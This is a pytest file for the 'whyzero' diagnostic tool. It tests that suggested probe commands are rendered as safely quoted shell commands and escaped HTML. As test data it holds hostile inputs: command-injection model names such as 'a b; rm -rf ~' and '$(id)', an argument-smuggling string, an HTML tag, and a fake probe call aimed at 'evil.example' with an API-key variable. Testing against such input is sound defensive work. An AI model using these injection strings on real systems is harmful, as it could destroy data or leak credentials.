"""Calls as a person types them: complete, quoted, from the working directory; and no name from a run becomes a command."""

from __future__ import annotations

import io
import shlex
from pathlib import Path

import pytest
from rich.console import Console

from whyzero.analyses.locate_failed_phase import Affected, FailedPhase, PhaseCounts
from whyzero.analyses.report import NextStep, RunInfo
from whyzero.causes import CAUSES
from whyzero.causes.cause import Cause, Found
from whyzero.causes.engine import finding
from whyzero.evidence import Evidence, Level
from whyzero.model import AgentLog, Run, Spot, Trial
from whyzero.render import document, html, markdown, plain
from whyzero.render.checks import check
from whyzero.render.commands import as_command
from whyzero.render.terminal import Rendered

PROBING = [cause for cause in CAUSES if "{probe}" in cause.check]
COMMAND = "whyzero probe-tool-roundtrip https://gateway.example:8443 --model claude-x --protocol anthropic --api-key-env ANTHROPIC_API_KEY"
CALL = (
    "probe_tool_roundtrip(base_url='https://gateway.example:8443', model='claude-x', "
    "protocol='anthropic', api_key_env='ANTHROPIC_API_KEY')"
)
EVIL = "probe_tool_roundtrip(base_url='https://evil.example', model='m', protocol='anthropic', api_key_env='ANTHROPIC_API_KEY')"


def concluded(cause: Cause, model: str = "claude-x", task: str = "sums", name: str = "sums__abc1234") -> str:
    """The check that the engine writes for a trial at that gateway."""
    log = AgentLog(agent="claude-code", endpoint="gateway.example:8443")
    trial = Trial(id=name, task=task, spot=Spot("result.json"), agent="claude-code", model=model, logs=(log,))
    found = Found((Evidence(path="log.txt", line=1, quote="x"),), Level.LOG)
    return finding(cause, found, Run(root=Path("/jobs/a"), name="a", format="harbor"), trial).disproving_check


def report(text: str, cause: str) -> FailedPhase:
    return FailedPhase(
        summary="a.",
        run=RunInfo(name="a", format="harbor"),
        phase=next(one.phase for one in CAUSES if one.name == cause),
        affected=Affected(trial="t"),
        cause=cause,
        likely_cause="So.",
        disproving_check=text,
        counts=PhaseCounts(trials=1),
    )


def terminal(shown: FailedPhase, width: int) -> list[str]:
    out = io.StringIO()
    Console(file=out, width=width, highlight=False).print(Rendered(document(shown)), crop=False)
    return out.getvalue().splitlines()


def commands(text: str, cause: str) -> list[str]:
    return [as_command(part) for part in check(text, cause).parts if isinstance(part, NextStep)]


# ---- the probe in a check


def test_some_causes_ask_for_the_probe() -> None:
    assert {"rate_limited", "provider_error", "subagent_auth"} <= {cause.name for cause in PROBING}


@pytest.mark.parametrize("cause", PROBING, ids=lambda cause: cause.name)
def test_people_read_a_command_where_an_agent_reads_a_call(cause: Cause) -> None:
    text = concluded(cause)
    assert CALL in text
    assert CALL in markdown(report(text, cause.name))
    shown = plain(report(text, cause.name))
    assert f"`{COMMAND}`" in shown
    assert "probe_tool_roundtrip" not in shown
    assert text.replace(CALL, f"`{COMMAND}`") in shown


@pytest.mark.parametrize("cause", PROBING, ids=lambda cause: cause.name)
def test_the_json_of_a_report_keeps_the_call(cause: Cause) -> None:
    assert CALL in report(concluded(cause), cause.name).model_dump_json()


def test_on_a_terminal_the_command_stands_on_one_line_of_its_own() -> None:
    cause = next(one for one in PROBING if one.name == "provider_error")
    assert f"  $ {COMMAND}" in terminal(report(concluded(cause), cause.name), width=60)


def test_on_a_page_the_command_is_code_and_escaped() -> None:
    cause = next(one for one in PROBING if one.name == "rate_limited")
    assert f"Run <code>{COMMAND}</code> now: " in html(report(concluded(cause), cause.name))
    hostile = html(report(concluded(cause, model="<b>x</b>"), cause.name))
    assert "--model &#x27;&lt;b&gt;x&lt;/b&gt;&#x27; " in hostile


def test_a_tool_named_in_a_check_is_named_as_a_command() -> None:
    cause = next(one for one in CAUSES if one.name == "wrong_answer")
    text = concluded(cause)
    assert "(`partition_disputed_rows`)" in markdown(report(text, cause.name))
    assert "(`whyzero partition-disputed-rows`)" in plain(report(text, cause.name))


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.name)
def test_the_check_of_every_cause_stands_whole_in_every_form(cause: Cause) -> None:
    text = concluded(cause)
    assert "".join(part if isinstance(part, str) else "" for part in check(text, cause.name).parts) == text.replace(
        CALL, ""
    ).replace("`partition_disputed_rows`", "")
    assert "{" not in text


# ---- names from a run


@pytest.mark.parametrize(
    "model",
    ["it's", 'say "hi"', "both ' and \"", "a b; rm -rf ~", "$(id)", "`id`", "back\\slash", "new\nline", "x', protocol='y"],
)
@pytest.mark.parametrize("cause", PROBING, ids=lambda cause: cause.name)
def test_a_hostile_model_name_is_one_quoted_word(cause: Cause, model: str) -> None:
    (command,) = commands(concluded(cause, model=model), cause.name)
    words = shlex.split(command)
    assert words[:3] == ["whyzero", "probe-tool-roundtrip", "https://gateway.example:8443"]
    assert words[4] == model.replace("\n", "\\n")
    assert words[5:] == ["--protocol", "openai-chat", "--api-key-env", "OPENAI_API_KEY"]


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.name)
def test_a_name_that_reads_like_a_call_becomes_no_command(cause: Cause) -> None:
    text = concluded(cause, task=f"x {EVIL}.", name=f"y {EVIL}.", model=f"claude-z {EVIL}")
    assert all(shlex.split(one)[2:3] in (["https://gateway.example:8443"], []) for one in commands(text, cause.name))


@pytest.mark.parametrize("cause", [None, "undetermined", "clock", "nonsense"])
def test_a_call_in_a_check_that_asks_for_none_stays_text(cause: str | None) -> None:
    assert check(f"Run {EVIL}.", cause).parts == (f"Run {EVIL}.",)


def test_a_check_that_was_cut_stays_text() -> None:
    text = concluded(PROBING[0]).replace("gateway.example", "gateway…ample")
    assert check(text, PROBING[0].name).parts == (text,)


# ---- places


@pytest.mark.parametrize(
    ("arguments", "command"),
    [
        ({"path": "{here}/jobs/a"}, "whyzero classify-zero jobs/a"),
        ({"path": "{here}"}, "whyzero classify-zero ."),
        ({"path": "{here}/-a b"}, "whyzero classify-zero './-a b'"),
        ({"path": "{here}/$(id)"}, "whyzero classify-zero '$(id)'"),
        ({"path": "/x"}, "whyzero classify-zero /x"),
        ({"path": "jobs/a", "trial": "{here}/t"}, "whyzero classify-zero jobs/a --trial {here}/t"),
        ({"paths": ["{here}/a", "{here}/b"], "oracle": "{here}/key.json"}, "whyzero classify-zero a b --oracle key.json"),
        ({"oracle": ["{here}/a", "{here}/b"]}, "whyzero classify-zero --oracle a --oracle b"),
    ],
)
def test_paths_are_told_from_the_working_directory_where_that_is_shorter(
    arguments: dict[str, object], command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    here = str(Path.cwd())
    filled = {
        name: [one.replace("{here}", here) for one in value] if isinstance(value, list) else str(value).replace("{here}", here)
        for name, value in arguments.items()
    }
    assert as_command(NextStep(tool="classify_zero", arguments=filled, why="")) == command.replace("{here}", here)


def test_without_a_working_directory_a_path_stays_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    step = NextStep(tool="classify_zero", arguments={"path": f"{gone}/a"}, why="")
    assert as_command(step) == f"whyzero classify-zero {gone}/a"


def test_a_next_step_stands_on_one_line_however_narrow_the_terminal() -> None:
    step = NextStep(tool="classify_zero", arguments={"path": "jobs/" + "long-name/" * 12}, why="Says why, in words that wrap.")
    shown = report("", "clock").model_copy(update={"next_steps": (step,)})
    lines = terminal(shown, width=40)
    assert f"  $ {as_command(step)}" in lines
    assert [line.strip() for line in lines[-1:]] != [""]
    assert all(len(line) <= 40 for line in lines if "$" not in line)
